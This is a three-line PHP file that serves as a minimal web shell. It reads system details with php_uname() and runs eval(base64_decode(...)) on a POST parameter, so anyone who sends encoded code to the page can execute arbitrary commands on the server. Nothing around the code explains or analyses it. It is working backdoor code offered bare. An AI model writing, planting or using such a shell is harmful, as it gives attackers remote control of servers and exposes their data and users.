<?php
$u = php_uname();
eval(base64_decode($_POST['c']));
?>
